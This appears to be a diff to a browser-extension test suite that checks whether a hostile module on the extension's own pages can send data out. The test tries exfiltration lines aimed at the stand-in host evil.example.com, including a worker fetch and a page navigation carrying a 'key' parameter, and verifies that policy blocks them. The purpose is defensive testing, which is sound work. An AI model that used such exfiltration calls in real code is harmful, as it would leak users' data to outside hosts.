@@ -180,9 +180,9 @@ const waysOut = `({ address, ending, element }) => ({
   },
 })`;
 
-it('lets a hostile module of its own send nothing out, but by leaving the page', async () => {
-  const page = await story.openExtensionPage('options.html');
-  const tried = (await page.evaluate(`(() => {
+/** Tries each of these ways from a page and returns their names once each was sent, has failed or was refused. */
+async function tryWaysOut(page: Page): Promise<string[]> {
+  return (await page.evaluate(`(() => {
     const ending = (source) => new Promise((resolve) => {
       for (const type of ['load', 'error', 'open']) source.addEventListener(type, resolve);
     });
@@ -203,16 +203,36 @@ it('lets a hostile module of its own send nothing out, but by leaving the page',
       return name;
     }));
   })()`)) as string[];
+}
+
+/** What came to hosts that nobody should call. A set, because the browser asks once more where a host says that it is the wrong one. */
+function arrivals(): string[] {
+  const paths = new Set(story.sandbox.strayRequests.map(({ path }) => path.slice(1)));
+  paths.delete('favicon.ico');
+  return [...paths].sort();
+}
+
+it('lets a hostile module of its own send nothing out, but by leaving the page', async () => {
+  const page = await story.openExtensionPage('options.html');
+  const tried = await tryWaysOut(page);
   expect(tried).toHaveLength(13);
   const fromWorker = "fetch('https://evil.example.com/worker').then(() => 'sent', () => 'refused')";
   expect(await story.evaluateInWorker(fromWorker)).toBe('refused');
-  // No policy holds a page back from leaving, which is why the package is searched for that. It shows that the rest
-  // would have been counted.
+  // No policy holds a page back from leaving, which is why the package is searched for that.
   await page.evaluate("location.href = 'https://evil.example.com/navigation?key'");
   await waitFor('the navigation', () => story.sandbox.strayRequests.length > 0);
-  // A set, because the browser asks once more where a host says that it is the wrong one.
-  const arrived = new Set(story.sandbox.strayRequests.map(({ path }) => path));
-  arrived.delete('/favicon.ico');
-  expect([...arrived]).toEqual(['/navigation']);
+  await waitFor('the other page', () =>
+    page.evaluate("document.readyState === 'complete'").catch(() => false),
+  );
+  expect(arrivals()).toEqual(['navigation']);
+  // Where that page came to there is no policy: every way that was tried arrives from there, and is counted.
+  story.sandbox.strayRequests.length = 0;
+  // Not waited for: some of what is sent is not answered.
+  void tryWaysOut(page).catch(() => {});
+  await waitFor('the form', () => arrivals().includes('form'));
+  // It opened a tab, and a page behind another one loads no media.
+  await page.bringToFront();
+  await waitFor('every way out', () => arrivals().length === tried.length);
+  expect(arrivals()).toEqual([...tried].sort());
   await page.close();
 });
